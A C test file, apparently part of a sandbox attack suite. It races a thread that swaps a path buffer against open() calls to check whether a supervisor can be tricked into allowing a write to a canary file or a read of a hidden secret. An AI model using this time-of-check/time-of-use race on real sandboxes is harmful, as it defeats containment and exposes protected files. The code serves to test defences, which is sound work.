/* A1: a second thread rewrites the path while the supervisor looks at it. */
#include "attack.h"

static char name[PATH_MAX];
static char good[PATH_MAX], bad[PATH_MAX];
static atomic_int over;

static void *flip(void *unused)
{
    while (!over)
    {
        memcpy(name, bad, sizeof name);
        memcpy(name, good, sizeof name);
    }
    return unused;
}

int main(int argc, char **argv)
{
    start(argc, argv);
    pthread_t thread;
    int wrote = 0, read_it = 0;
    strcpy(good, path("%s/mine", project));
    strcpy(name, good);
    strcpy(bad, path("%s/canary", base));
    pthread_create(&thread, NULL, flip, NULL);
    double end = now() + 1;
    for (long i = 0; now() < end; i++)
    {
        int file = open(name, O_WRONLY | O_CREAT, 0644);
        char link[64], real[PATH_MAX] = "";
        snprintf(link, sizeof link, "/proc/self/fd/%d", file);
        if (file >= 0 && readlink(link, real, sizeof real - 1) > 0 && strcmp(real, bad) == 0) wrote++;
        if (file >= 0) close(file);
    }
    over = 1;
    pthread_join(thread, NULL);
    verdict(wrote, "swapped the path of an open for writing: %d times", wrote);

    over = 0;
    strcpy(bad, path("%s/secret", hidden));
    strcpy(good, path("%s/source", project));
    strcpy(name, good);
    pthread_create(&thread, NULL, flip, NULL);
    end = now() + 0.5;
    while (now() < end)
    {
        int file = open(name, O_RDWR);
        char text[64] = "";
        if (file >= 0 && read(file, text, sizeof text) > 0 && strncmp(text, "SECRET", 6) == 0) read_it++;
        if (file >= 0) close(file);
    }
    over = 1;
    pthread_join(thread, NULL);
    verdict(read_it, "swapped the path of an open for reading: %d times", read_it);
    return 0;
}
